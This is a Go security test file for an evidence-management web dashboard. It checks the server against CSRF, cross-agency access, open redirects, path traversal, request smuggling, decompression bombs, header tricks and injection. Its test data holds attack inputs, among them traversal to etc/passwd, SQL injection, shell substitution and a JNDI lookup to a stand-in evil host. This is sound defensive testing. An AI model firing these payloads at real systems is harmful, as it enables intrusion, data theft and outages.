package dashboard_test

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"crypto/tls"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/sealdock/sealdock/ingest/internal/api"
	"github.com/sealdock/sealdock/ingest/internal/api/reading/readingtest"
	"github.com/sealdock/sealdock/ingest/internal/auth"
	"github.com/sealdock/sealdock/ingest/internal/dashboard"
	"github.com/sealdock/sealdock/internal/testkit/routes"
)

// Tests of attacks bear the numbers of docs/attacks.md.

// unsafeRoutes are the routes that change something, with their wildcards filled in.
func (s *site) unsafeRoutes(t *testing.T) []string {
	t.Helper()
	var all []string
	for _, pattern := range append(routes.Of(t, dashboard.Routes(dashboard.Config{Settings: s.Settings})), routes.Of(t, api.Routes(api.Config{Settings: s.Settings}))...) {
		method, path, found := strings.Cut(pattern, " ")
		if found && method != http.MethodGet {
			all = append(all, method+" "+wild.ReplaceAllString(path, "0123456789abcdef"))
		}
	}
	if len(all) < 60 {
		t.Fatalf("only %d routes: the rule would hold of little", len(all))
	}
	return all
}

func TestAttack30NoRouteTakesAnotherSitesRequest(t *testing.T) {
	s := newSite(t)
	client := s.signedIn(t)
	refused := 0
	for _, route := range s.unsafeRoutes(t) {
		method, path, _ := strings.Cut(route, " ")
		for _, headers := range [][]string{
			{"Sec-Fetch-Site", "cross-site"}, {"Sec-Fetch-Site", "same-site"}, {"Origin", "https://evil.example"}, {"Origin", "null"},
		} {
			if a := s.ask(t, client, method, path, url.Values{}, headers...); a.StatusCode != http.StatusForbidden {
				t.Errorf("%s with %v: %d", route, headers, a.StatusCode)
			}
			refused++
		}
	}
	if a := s.get(t, client, "/session"); a.StatusCode != http.StatusNoContent {
		t.Errorf("another site ended the session: %d", a.StatusCode)
	}
	t.Logf("%d requests, all refused", refused)
}

func TestAttack32ForeignAndUnknownAreTheSame(t *testing.T) {
	s := newSite(t)
	s.fill(t)
	boss := s.Actor(t, s.SetUp(t))
	things := s.things(t, boss)
	foreign, unknown := things[2], thing{strings.Repeat("7", 32), "NOWHERE-1", "no-dock", "nowhere", "7654321076543210", "7654321076543210", "7654321076543210", ""}
	_, client := s.member(t, boss, "r.eader", auth.Auditor, "")
	for _, path := range []string{
		"/evidence/%[1]s", "/evidence/%[1]s/play", "/evidence/%[1]s/receipt", "/cameras/%[2]s", "/uplinks/docks/%[3]s", "/uplinks/stations/%[4]s", "/cases/%[6]s", "/api/v1/cases/%[6]s",
		"/api/v1/items/%[1]s", "/api/v1/items/%[1]s/events", "/api/v1/items/%[1]s/receipt", "/api/v1/cameras/%[2]s", "/api/v1/people/%[5]s", "/people/%[5]s",
	} {
		ask := func(about thing) (int, string) {
			a := s.get(t, client, fmt.Sprintf(path, about.item, about.serial, about.dock, about.station, about.person, about.file))
			for _, name := range []string{about.item, about.serial, about.dock, about.station, about.person, about.file} {
				a.body = strings.ReplaceAll(a.body, name, "NAME")
			}
			return a.StatusCode, a.body
		}
		code, body := ask(foreign)
		other, text := ask(unknown)
		if code != http.StatusNotFound || code != other || body != text {
			t.Errorf("%s: of another agency %d, unknown %d, the same body: %t", path, code, other, body == text)
		}
	}
}

func TestAttack33FieldsThatNobodyMaySendChangeNothing(t *testing.T) {
	s := newSite(t)
	boss := s.Actor(t, s.SetUp(t))
	person, _ := s.member(t, boss, "o.fficer", auth.Officer, "B-17")
	_, theirs := s.member(t, boss, "t.wo", auth.Officer, "B-18")
	admin := s.client(t)
	s.ask(t, admin, "POST", "/sign-in", url.Values{"login": {"a.moreno"}, "password": {readingtest.Password}})
	for _, field := range []string{"agency", "role_id", "created_at", "password", "disabled", "powers", "id", "sha256", "__proto__"} {
		body := fmt.Sprintf(`{"name":"New Name","reason":"x",%q:"administrator"}`, field)
		if a := s.send(t, admin, "POST", "/api/v1/people/"+person+"/change", body); a.StatusCode != http.StatusBadRequest {
			t.Errorf("a change with %s: %d", field, a.StatusCode)
		}
	}
	form := url.Values{"role": {"administrator"}, "agency": {"other-pd"}, "powers": {"*"}, "current": {"x"}, "password": {"ferry lantern wheat orbit two"}, "again": {"ferry lantern wheat orbit two"}}
	s.ask(t, theirs, "POST", "/account/password", form)
	if a := s.get(t, theirs, "/people"); a.StatusCode != http.StatusForbidden {
		t.Errorf("after sending a role with the own password: %d", a.StatusCode)
	}
}

// send sends JSON.
func (s *site) send(t *testing.T, client *http.Client, method, path, body string, headers ...string) answer {
	t.Helper()
	r, err := http.NewRequestWithContext(t.Context(), method, s.server.URL+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	r.Header.Set("Content-Type", "application/json")
	for i := 0; i+1 < len(headers); i += 2 {
		r.Header.Set(headers[i], headers[i+1])
	}
	response, err := client.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	defer response.Body.Close()
	text, err := io.ReadAll(response.Body)
	if err != nil {
		t.Fatal(err)
	}
	return answer{response, string(text)}
}

func TestAttack42NoAddressLeadsToAnotherSite(t *testing.T) {
	s := newSite(t)
	client := s.signedIn(t)
	host := strings.TrimPrefix(s.server.URL, "https://")
	shapes := []string{
		"https://evil.example", "//evil.example", `/\evil.example`, `\\evil.example`, "/\t/evil.example", "https:evil.example", "http:///evil.example", "///evil.example",
		"////evil.example", "/%2f/evil.example", "/%5cevil.example", "//evil.example/%2e%2e", "https://" + host + "@evil.example", "https://evil.example#" + host, "javascript:alert(1)",
		"data:text/html,x", "vbscript:x", "//evil.example:443/", "/.evil.example", "..//evil.example", "/../..//evil.example", "https://evil.example\\@" + host, "\x00//evil.example",
		" //evil.example", "%20//evil.example", "//evil%E3%80%82example", "//[::1]", "//0x7f000001", "ftp://evil.example", "//evil.example?" + host, "/;//evil.example", "/?//evil.example",
		"/evidence//evil.example", "https://evil.example/sign-in", "//google.com/amp/evil", "\r\nLocation: https://evil.example", "/\r\nevil", "mailto:x@evil.example", "//\u200bevil.example", "/\u2028/evil.example",
	}
	for _, shape := range shapes {
		for _, path := range []string{"/confirm?next=", "/sign-in?next=", "/account/factor?next="} {
			a := s.get(t, client, path+url.QueryEscape(shape))
			if to := a.Header.Get("Location"); to != "" && leaves(t, s, to) {
				t.Errorf("%s%q leads to %q", path, shape, to)
			}
			if strings.Contains(a.body, `href="`+shape) || strings.Contains(a.body, "http-equiv") && strings.Contains(a.body, shape) {
				t.Errorf("%s%q is a link on the page", path, shape)
			}
		}
		a := s.ask(t, s.client(t), "POST", "/sign-in", url.Values{"login": {"a.moreno"}, "password": {readingtest.Password}, "next": {shape}})
		if to := a.Header.Get("Location"); to == "" || leaves(t, s, to) {
			t.Errorf("a sign-in with next %q: %d, leads to %q", shape, a.StatusCode, to)
		}
		s.Clock.Advance(time.Minute)
	}
}

// leaves reports whether a Location leads to another host.
func leaves(t *testing.T, s *site, to string) bool {
	t.Helper()
	here, err := url.Parse(s.server.URL)
	if err != nil {
		t.Fatal(err)
	}
	u, err := here.Parse(to)
	return err != nil || u.Host != here.Host || u.Scheme != "https" || strings.HasPrefix(to, "//") || strings.ContainsAny(to, "\\\r\n\t")
}

func TestAttack44NoPathLeadsOutOfItsPlace(t *testing.T) {
	s := newSite(t)
	s.fill(t)
	session := s.SetUp(t)
	up := []string{"..", "%2e%2e", "%2e.", "..%2f", "%2e%2e%2f", "..%5c", "..\\", "%252e%252e%252f", "..%c0%af", "....//", "..;/", ".%00./", "%uff0e%uff0e/", "/etc"}
	asked := 0
	for _, before := range []string{"/static/x/", "/evidence/", "/api/v1/items/", "/cameras/", "/uplinks/docks/"} {
		for _, shape := range up {
			path := before + strings.Repeat(shape, 6) + "etc/passwd"
			lines := s.talk(t, "GET "+path+" HTTP/1.1\r\nHost: localhost\r\nCookie: "+auth.CookieName+"="+session+"\r\nConnection: close\r\n\r\n")
			if asked++; len(lines) != 1 || strings.HasPrefix(lines[0], "HTTP/1.1 2") || strings.HasPrefix(lines[0], "HTTP/1.1 5") {
				t.Errorf("%s: %q", path, lines)
			}
		}
	}
	if asked < 60 {
		t.Errorf("only %d addresses were asked for", asked)
	}
}

// talk sends bytes as they are over HTTP/1.1 and returns the status lines that come back.
func (s *site) talk(t *testing.T, request string) []string {
	t.Helper()
	conf := s.server.Client().Transport.(*http.Transport).TLSClientConfig.Clone()
	conf.NextProtos = []string{"http/1.1"}
	conn, err := tls.Dial("tcp", strings.TrimPrefix(s.server.URL, "https://"), conf)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := io.WriteString(conn, request); err != nil {
		t.Fatal(err)
	}
	var lines []string
	for in := bufio.NewScanner(conn); in.Scan(); {
		if strings.HasPrefix(in.Text(), "HTTP/1.") {
			lines = append(lines, in.Text())
		}
	}
	return lines
}

// A request that a proxy and this server may read as two must be refused, and what
// hides in it must not be answered.
func TestAttack47NoRequestHidesInAnother(t *testing.T) {
	s := newSite(t)
	const hidden = "GET /sign-in HTTP/1.1\r\nHost: localhost\r\n\r\n"
	head := "POST /sign-in HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\n"
	for name, request := range map[string]string{
		"two lengths":                  head + "Content-Length: 0\r\nContent-Length: 44\r\n\r\n" + hidden,
		"length of two numbers":        head + "Content-Length: 0, 44\r\n\r\n" + hidden,
		"length with a sign":           head + "Content-Length: +0\r\n\r\n" + hidden,
		"length in hexadecimal":        head + "Content-Length: 0x0\r\n\r\n" + hidden,
		"an unknown coding":            head + "Transfer-Encoding: xchunked\r\nContent-Length: 0\r\n\r\n" + hidden,
		"two codings":                  head + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + hidden,
		"space before the colon":       head + "Transfer-Encoding : chunked\r\nContent-Length: 0\r\n\r\n" + hidden,
		"a bare line feed in a chunk":  head + "Transfer-Encoding: chunked\r\n\r\n1;a\nx\r\n0\r\n\r\n" + hidden,
		"a chunk's size with a sign":   head + "Transfer-Encoding: chunked\r\n\r\n+0\r\n\r\n" + hidden,
		"a line that is continued":     head + "X: a\r\n Transfer-Encoding: chunked\r\nContent-Length: x\r\n\r\n" + hidden,
		"a zero byte in a header":      head + "X: a\x00b\r\nContent-Length: 0\r\n\r\n" + hidden,
		"no host":                      "GET /sign-in HTTP/1.1\r\n\r\n" + hidden,
		"two hosts":                    "GET /sign-in HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\n\r\n" + hidden,
		"a carriage return in a name":  "GET /sign-in HTTP/1.1\r\nHost: localhost\r\nX\rY: z\r\n\r\n" + hidden,
		"a request line of two spaces": "GET  /sign-in HTTP/1.1\r\nHost: localhost\r\n\r\n" + hidden,
	} {
		lines := s.talk(t, request)
		if len(lines) != 1 || !strings.HasPrefix(lines[0], "HTTP/1.1 4") && !strings.HasPrefix(lines[0], "HTTP/1.1 501") {
			t.Errorf("%s: %q", name, lines)
		}
	}
}

func TestAttack49BodiesThatGrowWhenRead(t *testing.T) {
	s := newSite(t)
	client := s.signedIn(t)
	var bomb bytes.Buffer
	packer := gzip.NewWriter(&bomb)
	if _, err := packer.Write(bytes.Repeat([]byte(" "), 32<<20)); err != nil {
		t.Fatal(err)
	}
	if err := packer.Close(); err != nil {
		t.Fatal(err)
	}
	deep := strings.Repeat("[", 100_000)
	for name, body := range map[string]string{
		"deep": `{"items":` + deep, "deep objects": strings.Repeat(`{"a":`, 20_000), "a number beyond all": `{"items":1e999}`, "twice": `{"items":[],"items":["x"]}`,
		"long": `{"items":["` + strings.Repeat("x", 1<<20) + `"]}`, "not UTF-8": "{\"items\":[\"\xff\"]}", "two values": `{"items":[]}{"items":[]}`, "nothing": "",
		"compressed": bomb.String(),
	} {
		for _, path := range []string{"/api/v1/packages", "/api/v1/me/confirm", "/api/v1/people"} {
			headers := []string{}
			if name == "compressed" {
				headers = []string{"Content-Encoding", "gzip"}
			}
			began := time.Now()
			a := s.send(t, client, "POST", path, body, headers...)
			if a.StatusCode < 400 || a.StatusCode >= 500 || a.Header.Get("Content-Type") != "application/problem+json" {
				t.Errorf("%s to %s: %d %s", name, path, a.StatusCode, a.Header.Get("Content-Type"))
			}
			t.Logf("%s to %s: %d after %v", name, path, a.StatusCode, time.Since(began).Round(time.Millisecond))
		}
	}
}

func TestAttack50OneRangeAtATimeAndNothingKept(t *testing.T) {
	s := newSite(t)
	s.Enrol(t, "north", "front-desk")
	item := s.Keep(t, readingtest.Recording{Path: "DCIM/A.MP4", Content: bytes.Repeat([]byte("footage."), 4096)})
	client := s.signedIn(t)
	path := "/evidence/" + item.ID.String() + "/play"
	for name, ranges := range map[string]string{
		"overlapping": "bytes=" + strings.TrimSuffix(strings.Repeat("0-,", 2500), ","), "ten thousand": "bytes=" + strings.TrimSuffix(strings.Repeat("1-2,", 10_000), ","),
		"two": "bytes=0-1,4-5", "backwards": "bytes=9-3", "beyond": "bytes=99999999-",
	} {
		a := s.get(t, client, path, "Range", ranges)
		if a.StatusCode != http.StatusRequestedRangeNotSatisfiable && a.StatusCode != http.StatusRequestHeaderFieldsTooLarge || len(a.body) > 4096 {
			t.Errorf("%s: %d with %d bytes", name, a.StatusCode, len(a.body))
		}
	}
	if a := s.get(t, client, path, "Range", "bytes=8-15"); a.StatusCode != http.StatusPartialContent || a.body != "footage." || a.Header.Get("Cache-Control") != "no-store" {
		t.Errorf("one range: %d %q, Cache-Control %q", a.StatusCode, a.body, a.Header.Get("Cache-Control"))
	}
	if a := s.get(t, s.client(t), path, "Range", "bytes=8-15"); strings.Contains(a.body, "footage.") {
		t.Error("somebody else is given what was read")
	}
}

func TestAttack51HeadersChangeNothing(t *testing.T) {
	s := newSite(t)
	client := s.signedIn(t)
	plain := s.get(t, client, "/people")
	for _, headers := range [][]string{
		{"X-HTTP-Method-Override", "DELETE"}, {"X-Method-Override", "POST"}, {"X-Original-URL", "/sign-out"}, {"X-Rewrite-URL", "/sign-out"}, {"X-Forwarded-Host", "evil.example"},
		{"Forwarded", "for=10.0.0.1;host=evil.example"}, {"X-Forwarded-For", "10.0.0.1"}, {"X-Real-IP", "10.0.0.1"}, {"X-Forwarded-Proto", "http"}, {"Origin", s.server.URL},
	} {
		a := s.get(t, client, "/people", headers...)
		if a.StatusCode != plain.StatusCode || strings.Contains(a.body, "evil.example") || a.Header.Get("Access-Control-Allow-Origin") != "" || a.Header.Get("Access-Control-Allow-Credentials") != "" {
			t.Errorf("with %v: %d, %v", headers, a.StatusCode, a.Header)
		}
	}
	for _, method := range []string{"TRACE", "CONNECT", "TRACK", "DEBUG", "PROPFIND"} {
		if a := s.ask(t, client, method, "/sign-in", nil, "X-Secret", "echoed-back"); a.StatusCode < 400 || strings.Contains(a.body, "echoed-back") {
			t.Errorf("%s: %d", method, a.StatusCode)
		}
	}
	if a := s.ask(t, client, "OPTIONS", "/api/v1/people", nil, "Origin", "https://evil.example", "Access-Control-Request-Method", "POST"); a.Header.Get("Access-Control-Allow-Origin") != "" || a.StatusCode < 300 {
		t.Errorf("a preflight from elsewhere: %d %v", a.StatusCode, a.Header)
	}
	// The address in the record is the connection's, whatever headers say.
	s.ask(t, s.client(t), "POST", "/sign-in", url.Values{"login": {"a.moreno"}, "password": {"not the password"}}, "X-Forwarded-For", "203.0.113.77")
	if a := s.get(t, client, "/api/v1/events"); a.StatusCode != http.StatusOK || strings.Contains(a.body, "203.0.113.77") || !strings.Contains(a.body, "127.0.0.1") {
		t.Errorf("a header became the address in the record: %d", a.StatusCode)
	}
	if a := s.get(t, client, "/session"); a.StatusCode != http.StatusNoContent {
		t.Errorf("a header ended the session: %d", a.StatusCode)
	}
}

func TestAttack52TextsThatAreCommandsElsewhere(t *testing.T) {
	s := newSite(t)
	s.Enrol(t, "north", "front-desk")
	texts := []string{
		"' OR '1'='1", "'; DROP TABLE items; --", `" OR ""="`, "1; SELECT pg_sleep(9)", "x' UNION SELECT login, password FROM users --", "%", "_", `\`, "%' ESCAPE '!", "$1", "?1", ":agency", "NULL",
		"-i", "--output=/tmp/x", "-rf", "$(id)", "`id`", "|id", "a\r\nSet-Cookie: x=y", "a\nlevel=ERROR msg=forged", "\x1b[2J", "{{.}}", "${jndi:ldap://evil.example/a}", "a\x00b", "ĳ", "' || (SELECT 1) || '",
	}
	for i, text := range texts {
		s.Keep(t, readingtest.Recording{Path: fmt.Sprintf("DCIM/-i%d.MP4", i), Officer: "Kim Ward", Content: []byte(text)})
	}
	client := s.signedIn(t)
	for _, text := range texts {
		for _, path := range []string{"/evidence?q=%s", "/evidence?camera=%s", "/evidence?officer=%s", "/cameras?q=%s", "/people?q=%s", "/audit?q=%s", "/audit?person=%s", "/api/v1/items?q=%s", "/api/v1/items?officer=%s", "/api/v1/items?cursor=%s", "/evidence?sort=%s", "/evidence?state=%s"} {
			began := time.Now()
			a := s.get(t, client, fmt.Sprintf(path, url.QueryEscape(text)))
			if a.StatusCode >= 500 || a.Header.Get("Set-Cookie") != "" || strings.Contains(a.body, "pbkdf2") {
				t.Errorf("%s with %q: %d", path, text, a.StatusCode)
			}
			if strings.Contains(path, "/evidence?officer=") && strings.Contains(a.body, "DCIM/-i0.MP4") {
				t.Errorf("%q finds what it does not name", text)
			}
			if took := time.Since(began); strings.Contains(text, "sleep") && took > 8*time.Second {
				t.Errorf("%s with %q took %v", path, text, took)
			}
		}
	}
	if a := s.get(t, client, "/evidence?q=ward"); !strings.Contains(a.body, "-i0.MP4") {
		t.Error("the items are gone")
	}
}
